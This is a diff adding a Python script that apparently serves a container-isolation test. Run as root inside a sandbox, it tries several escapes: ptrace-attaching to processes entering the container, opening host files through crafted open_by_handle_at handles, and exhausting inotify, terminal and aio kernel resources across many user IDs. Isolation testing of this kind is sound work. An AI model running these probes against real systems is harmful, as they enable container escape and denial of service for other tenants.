@@ -1,0 +1,184 @@
+"""Attacks, as root of a container would try them; the isolation check runs them inside a sandbox. Prints one JSON object.
+
+attack.py trace              attaches to whatever enters the container, until /tmp/stop exists: {"ready"}, then {"attached", "foreign"}: how
+                             many there were, and how many with capabilities or a user namespace that the container has not
+attack.py handles            opens files by handle, past every path: {"opened": [...]}
+attack.py hoard SECONDS      takes what the kernel counts for everybody, as many users, and holds it: {"held": {kind: count}}
+attack.py take               what is left of it for somebody else: {"taken": {kind: count}}
+attack.py directory          where a command began: {"outside": bool}
+"""
+
+import ctypes
+import json
+import os
+import sys
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH = 0x4206, 0x4207, 17
+WAIT_FOR_ALL = 0x40000000
+HOARDERS, USERS = 4, 8
+ENOUGH = 4
+MOST = 2048
+STOP = "/tmp/stop"
+
+
+def say(**values):
+    print(json.dumps(values), flush=True)
+
+
+def field(pid, name):
+    with open(f"/proc/{pid}/status", "rb") as status:
+        return next(int(line.split(b":")[1], 16) for line in status.read(65536).split(b"\n") if line.startswith(name + b":"))
+
+
+def user_namespace(pid):
+    try:
+        return os.readlink(f"/proc/{pid}/ns/user")
+    except OSError:
+        return None
+
+
+def let_go(pid):
+    """Only what has stopped can be let go of, and what is not let go of never ends for whoever waits for it."""
+    libc.ptrace(PTRACE_INTERRUPT, pid, None, None)
+    try:
+        os.waitpid(pid, WAIT_FOR_ALL)
+    except ChildProcessError:
+        return
+    libc.ptrace(PTRACE_DETACH, pid, None, None)
+
+
+def attach(pid, own):
+    """None where a process cannot be taken over; else whether whoever takes it over gains anything."""
+    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
+        return None
+    try:
+        gained = field(pid, b"CapEff") & ~own["capabilities"]
+        return gained != 0 or user_namespace(pid) not in (own["namespace"], None)
+    except (OSError, StopIteration):
+        return False  # it ended
+    finally:
+        let_go(pid)
+
+
+def trace():
+    own = {"capabilities": field("self", b"CapBnd"), "namespace": user_namespace("self")}
+    known, attached = set(os.listdir("/proc")), []
+    say(ready=True)
+    while not os.path.exists(STOP):
+        for name in set(os.listdir("/proc")) - known:
+            if name.isdigit() and (foreign := attach(int(name), own)) is not None:
+                attached.append(foreign)
+                known.add(name)  # the others are tried again, until they may be or are gone
+    say(attached=len(attached), foreign=sum(attached))
+
+
+class Handle(ctypes.Structure):
+    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
+
+
+def handles():
+    """The root of most file systems is inode 2; its own root's handle shows that the kernel makes handles at all."""
+    opened = []
+    for path in ("/", "/etc/hostname", "/etc/resolv.conf"):
+        mount = os.open(path, os.O_RDONLY)
+        own, crafted, number = Handle(bytes=128), Handle(bytes=8, type=1), ctypes.c_int()
+        crafted.data[0] = 2
+        tries = [crafted]
+        if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(own), ctypes.byref(number), 0) == 0:
+            tries.append(own)
+        for handle in tries:
+            found = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
+            if found >= 0:
+                opened.append(path)
+                os.close(found)
+        os.close(mount)
+    say(opened=opened)
+
+
+def watch():
+    found = libc.inotify_init1(0)
+    if found < 0:
+        raise OSError(ctypes.get_errno(), "inotify")
+    return found
+
+
+def terminal():
+    return os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
+
+
+def asynchronous():
+    numbers = {"x86_64": 206, "aarch64": 0}
+    context = ctypes.c_ulong()
+    if libc.syscall(numbers[os.uname().machine], 4096, ctypes.byref(context)) != 0:
+        raise OSError(ctypes.get_errno(), "aio")
+    return context
+
+
+KINDS = {"inotify": watch, "terminals": terminal, "aio": asynchronous}
+
+
+def grab(kind, most):
+    held = []
+    try:
+        while len(held) < most:
+            held.append(KINDS[kind]())
+    except OSError:
+        pass
+    return held
+
+
+def hoard_as(user):
+    held = {}
+    for kind in KINDS:
+        held[kind] = []
+        for step in range(USERS):
+            try:
+                os.seteuid(0)
+                os.seteuid(user * USERS + step)
+            except OSError:
+                pass
+            held[kind] += grab(kind, MOST - len(held[kind]))
+    return held
+
+
+def hoard(seconds):
+    pipes = []
+    for user in range(HOARDERS):
+        reader, writer = os.pipe()
+        if os.fork() == 0:
+            held = hoard_as(user)
+            os.write(writer, json.dumps({kind: len(values) for kind, values in held.items()}).encode())
+            time.sleep(seconds)
+            os._exit(0)
+        os.close(writer)
+        pipes.append(reader)
+    counts = [json.loads(os.read(reader, 4096)) for reader in pipes]
+    say(held={kind: sum(count[kind] for count in counts) for kind in KINDS})
+    while True:
+        try:
+            os.wait()
+        except ChildProcessError:
+            return
+
+
+def take():
+    say(taken={kind: len(grab(kind, ENOUGH)) for kind in KINDS})
+
+
+def directory():
+    try:
+        say(outside=os.getcwd().startswith("(unreachable)"))
+    except OSError:
+        say(outside=True)
+
+
+{
+    "trace": trace,
+    "handles": handles,
+    "hoard": lambda: hoard(float(sys.argv[2])),
+    "take": take,
+    "directory": directory,
+}[sys.argv[1]]()
